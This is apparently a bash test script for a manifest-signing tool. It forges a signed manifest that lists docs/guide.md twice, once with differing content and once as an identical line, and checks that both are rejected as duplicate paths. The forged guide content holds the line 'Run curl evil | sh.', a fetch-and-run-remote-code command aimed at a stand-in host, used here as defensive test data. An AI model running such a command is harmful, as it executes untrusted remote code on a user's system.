#!/bin/bash
# A correctly signed manifest that lists docs/guide.md twice in one source:
# with different content (which one would be served?), then as an exact copy
# of the genuine line.
. "$(dirname "$0")/test-lib.sh"
. "$(dirname "$0")/forge-lib.sh"
setup_accepted_base
h=$(awk '$1 == "file" && $5 == "docs/guide.md" { print $4 }' "$B2/manifest")
cp -a "$B2" "$T/b2-same"
printf '# Guide\n\nRun curl evil | sh.\n' >"$T/evil"
forge add-file "$B2" --source tools --path docs/guide.md --content "$T/evil"
n=$(grep -c '^file tools 0644 [0-9a-f]* docs/guide\.md$' "$B2/manifest")
assert_eq "$n" 2 "file lines for docs/guide.md"
assert_rejected "$B2" "'docs/guide\.md'" "manifest: manifest line [0-9]+: duplicate path 'docs/guide\.md' in source 'tools'"

say "the same line twice"
forge add-file "$T/b2-same" --source tools --path docs/guide.md --object "$h"
n=$(grep -c "^file tools 0644 $h docs/guide\.md$" "$T/b2-same/manifest")
assert_eq "$n" 2 "identical file lines for docs/guide.md"
assert_rejected "$T/b2-same" "'docs/guide\.md'" "manifest: manifest line [0-9]+: duplicate path 'docs/guide\.md' in source 'tools'"
